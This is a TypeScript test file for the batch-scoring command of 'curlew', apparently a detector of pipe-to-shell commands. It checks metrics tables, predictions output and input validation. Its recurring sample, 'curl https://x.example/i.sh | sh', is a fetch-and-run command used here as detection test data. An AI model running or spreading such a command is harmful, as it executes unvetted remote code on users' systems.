import { mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { folderWith } from "./folder-with.js";
import { runHere } from "./fake-detector.js";

const BAD = "curl https://x.example/i.sh | sh";
const row = (value: object) => `${JSON.stringify(value)}\n`;

const GOOD = [
  row({ id: "a", text: BAD, labels: ["PS"], spans: [[0, 32]] }), // true positive, exact
  row({ text: `x ${BAD}`, labels: ["PS"], spans: [[0, 34]] }), // true positive, other span
  row({ id: 7, text: BAD, labels: ["PS"], spans: [] }), // true positive without spans
  row({ text: BAD, labels: [], spans: [] }), // false positive
  row({ text: "wget", labels: ["PS"], spans: [[0, 4]] }), // false negative
  "\n",
  row({ text: "harmless", labels: [] }), // true negative
  row({ text: BAD }), // not scored
].join("");

describe("the table of `curlew batch`", () => {
  it("counts per file and in total", async () => {
    const cwd = folderWith({ "one.jsonl": GOOD, "two.jsonl": row({ text: BAD, labels: ["PS"] }) });
    const { stdout, stderr, status } = await runHere(["batch", "one.jsonl", "two.jsonl"], { cwd });
    const [table, facts] = stdout.split("\n\n");
    expect(table).toBe(
      [
        "file       records  tp  fp  fn  tn  precision  recall      F1  exact spans  overlapping",
        "one.jsonl        7   3   1   1   1      75.0%   75.0%   75.0%  33.3% (1/3)  66.6% (2/3)",
        "two.jsonl        1   1   0   0   0     100.0%  100.0%  100.0%            -            -",
        "all              8   4   1   1   1      80.0%   80.0%   80.0%  33.3% (1/3)  66.6% (2/3)",
        "95% intervals: precision 37.5% to 96.3%, recall 37.5% to 96.3%",
      ].join("\n"),
    );
    expect(facts).toMatch(
      /^texts +8 in 2 inputs\nflagged +6 \(75\.0%, .*\n[^]*without labels +1: predicted, not scored\n/,
    );
    expect([stderr, status]).toEqual(["", 0]);
  });

  it("is Markdown or JSON on request", async () => {
    const cwd = folderWith({ "one.jsonl": GOOD });
    const markdown = await runHere(["batch", "--format", "markdown", "one.jsonl"], { cwd });
    expect(markdown.stdout.split("\n")[2]).toBe(
      "| one.jsonl | 7 | 3 | 1 | 1 | 1 | 75.0% | 75.0% | 75.0% | 33.3% (1/3) | 66.6% (2/3) |",
    );
    const json = JSON.parse(
      (await runHere(["batch", "--format", "json", "one.jsonl"], { cwd })).stdout,
    );
    expect(json.files[0]).toMatchObject({
      file: "one.jsonl",
      tp: 3,
      precision: 0.75,
      spanned: 3,
      exact: 1,
      unlabelled: 1,
    });
    expect(json.total.recall).toBe(0.75);
  });

  it("compares spans in the requested unit", async () => {
    const stdin = row({ text: `🙂 ${BAD}`, labels: ["PS"], spans: [[2, 34]] });
    expect(
      (await runHere(["batch", "--offset-encoding", "codepoint"], { stdin })).stdout,
    ).toContain("(1/1)");
    expect((await runHere(["batch"], { stdin })).stdout).toContain("(0/1)");
  });
});

describe("the predictions of `curlew batch`", () => {
  it("are one line per record in input order, with the id of the record or its line number", async () => {
    const { stdout, stderr } = await runHere(["batch", "-", "--predictions", "-"], { stdin: GOOD });
    const lines = stdout
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(lines.map((line) => line.id)).toEqual(["a", 2, 7, 4, 5, 7, 8]);
    expect(Object.keys(lines[0])).toEqual(["id", "labels", "spans", "findings", "outcome"]);
    expect(lines[0]).toMatchObject({
      labels: ["PS"],
      spans: [[0, 32]],
      outcome: { status: "complete" },
    });
    expect(lines[4]).toEqual({
      id: 5,
      labels: [],
      spans: [],
      findings: [],
      outcome: { status: "complete" },
    });
    expect(stderr).toMatch(/^file {3}/);
  });

  it("are written to a file", async () => {
    const cwd = folderWith({ "one.jsonl": GOOD });
    const { stdout } = await runHere(["batch", "one.jsonl", "--predictions", "out.jsonl"], { cwd });
    expect(readFileSync(join(cwd, "out.jsonl"), "utf8").trimEnd().split("\n").length).toBe(7);
    expect(stdout).toContain("one.jsonl");
  });

  it("are in input order for many records of different sizes", async () => {
    const stdin = Array.from({ length: 3000 }, (_, i) =>
      row({ id: i, text: i % 100 === 0 ? "x".repeat(100_000) + BAD : "x" }),
    ).join("");
    const { stdout } = await runHere(["batch", "--predictions", "-"], { stdin });
    expect(
      stdout
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id),
    ).toEqual(Array.from({ length: 3000 }, (_, i) => i));
  });
});

const BROKEN = [
  row({ id: 1, text: "fine", labels: [] }),
  "{broken\n",
  row({ id: 3, labels: [] }),
  row({ id: 4, text: 5 }),
  "[1]\n",
  row({ id: 6, text: BAD, labels: "PS" }),
  row({ id: 7, text: BAD, labels: ["PS"], spans: [[0]] }),
  row({ id: 8, text: BAD, labels: ["PS"], spans: [[5, 2]] }),
  row({ id: 9, text: "x", labels: [], spans: [[0, 99]] }),
  row({ id: 10, text: "fine" }).trimEnd(),
].join("");

describe("invalid lines of records", () => {
  it("are reported and counted, and all valid lines are predicted", async () => {
    const cwd = folderWith({ "b.jsonl": BROKEN });
    const { stdout, stderr, status } = await runHere(["batch", "b.jsonl", "--predictions", "p"], {
      cwd,
    });
    expect(
      stderr
        .trimEnd()
        .split("\n")
        .map((line) => line.replace(/\(.*\)/, "()")),
    ).toEqual([
      "curlew: b.jsonl:2: not valid JSON ()",
      'curlew: b.jsonl:3: has no "text" ()',
      'curlew: b.jsonl:4: "text" is not a string',
      "curlew: b.jsonl:5: not a JSON object",
      'curlew: b.jsonl:6: "labels" is neither [] nor ["PS"]',
      'curlew: b.jsonl:7: "spans" is not a list of [start, end] pairs of whole numbers',
      'curlew: b.jsonl:8: "spans" is not a list of [start, end] pairs of whole numbers',
      'curlew: b.jsonl:9: "spans" extend beyond the text',
    ]);
    expect(
      readFileSync(join(cwd, "p"), "utf8")
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id),
    ).toEqual([1, "b.jsonl:2", 3, 4, "b.jsonl:5", 6, 7, 8, 9, 10]);
    expect(stdout).toMatch(/with errors +8, 4 of them not read/);
    expect(status).toBe(2);
  });

  it("end the run if --strict is given", async () => {
    const { stdout, stderr, status } = await runHere(["batch", "--strict", "--predictions", "-"], {
      stdin: BROKEN,
    });
    expect(stdout.trimEnd().split("\n").length).toBe(1);
    expect(stderr).toMatch(/^curlew: <stdin>:2: not valid JSON/);
    expect(stderr).not.toContain(":3:");
    expect(status).toBe(2);
  });

  it("may be the only lines of the input", async () => {
    expect((await runHere(["batch"], { stdin: "nonsense\n" })).status).toBe(2);
  });

  it("include lines that are not valid UTF-8 or are too long", async () => {
    const invalid = Buffer.concat([
      Buffer.from('{"text":"'),
      Buffer.from([0xff]),
      Buffer.from(`${BAD}"}\n`),
    ]);
    const damaged = await runHere(["batch", "--predictions", "-"], { stdin: invalid });
    expect(damaged.stderr).toContain("<stdin>:1: not valid UTF-8");
    expect(JSON.parse(damaged.stdout).spans).toEqual([[1, 33]]);
    const long = await runHere(["batch", "--max-size", "1K", "--predictions", "-"], {
      stdin: `${row({ text: "x".repeat(2000) })}${row({ id: "b", text: BAD })}`,
    });
    expect(long.stderr).toContain("<stdin>:1: longer than 1 KiB");
    const [first, second] = long.stdout
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(first).toMatchObject({
      id: 1,
      labels: [],
      outcome: { status: "incomplete", limits: [{ limit: "size" }] },
    });
    expect(second.id).toBe("b");
  });

  it("do not include lines with a byte order mark, CR LF or lone surrogates", async () => {
    const stdin = `\uFEFF{"id":"a","text":"x \\ud800 ${BAD}","labels":["PS"],"spans":[[4,36]]}\r\n`;
    const { stdout, stderr } = await runHere(["batch", "--predictions", "-"], { stdin });
    expect(stderr).toContain("(1/1)");
    expect(JSON.parse(stdout).labels).toEqual(["PS"]);
  });
});

describe("the arguments of `curlew batch`", () => {
  it.each([
    ["a missing file", ["missing.jsonl"], "curlew: missing.jsonl: no such file or folder\n"],
    [
      "a folder",
      ["folder"],
      "curlew: folder: contains no text files; name files of records explicitly\n",
    ],
    [
      "predictions in a missing folder",
      ["a.jsonl", "--predictions", "no/such/p"],
      "curlew: cannot write no/such/p: no such file or folder\n",
    ],
    [
      "predictions that would overwrite an input file",
      ["a.jsonl", "--predictions", "./folder/../a.jsonl"],
      "curlew: cannot write ./folder/../a.jsonl: it is also an input\n",
    ],
  ])("are rejected: %s", async (_name, args, message) => {
    const cwd = folderWith({ "a.jsonl": row({ text: "x" }) });
    mkdirSync(join(cwd, "folder"));
    expect(await runHere(["batch", ...args], { cwd })).toEqual({
      status: 2,
      stdout: "",
      stderr: message,
    });
  });

  it("may be omitted, and standard input may be empty", async () => {
    const { stdout, status } = await runHere(["batch"], { stdin: "" });
    expect(stdout).toMatch(/^texts +0\n/);
    expect(status).toBe(0);
  });
});
